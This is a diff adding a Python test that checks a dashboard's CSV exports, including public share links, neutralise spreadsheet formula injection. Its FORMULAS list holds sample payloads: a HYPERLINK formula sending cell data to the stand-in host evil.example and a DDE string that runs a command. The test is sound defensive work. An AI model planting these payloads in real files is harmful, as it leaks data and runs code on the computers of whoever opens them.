@@ -206,3 +206,34 @@ def test_background_rebuild_precomputes_the_default_pages(as_role, community, hi
     state = recurrence_refresh(community_id=community.pk)
     assert figures_precomputed(state=state, filters=month) is None
     cache.clear()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+
+
+def assert_no_formula_cells(text: str) -> list[list[str]]:
+    """No cell a spreadsheet would run (issue 22); plain numbers, negative ones too, stay numbers."""
+    rows = list(csv.reader(io.StringIO(text)))
+    for row in rows:
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # only a plain number may start so
+    return rows
+
+
+def test_csv_exports_neutralise_formulas_including_public_links(client, community, as_role, history):
+    """Issue 22: a district named `=HYPERLINK(…)` came out unchanged in the exports."""
+    for name in FORMULAS:
+        ZoneFactory(community=community, kind="district", name=name)  # around the sites
+    from accounts.sharing import share_token_make
+
+    token = share_token_make(community=community)
+    viewer = as_role(Role.VIEWER)
+    for url in ("/dashboards/export/districts.csv", f"/dashboards/public/{token}/export/districts.csv"):
+        response = viewer.get(url, JANUARY)
+        assert response.status_code == 200, url
+        rows = assert_no_formula_cells(response.content.decode())
+        names = {row[1] for row in rows[1:]}
+        assert names >= {"'" + f for f in FORMULAS}, (url, names)
+    for table in ("sites", "streets", "months"):
+        assert_no_formula_cells(viewer.get(f"/dashboards/export/{table}.csv", JANUARY).content.decode())
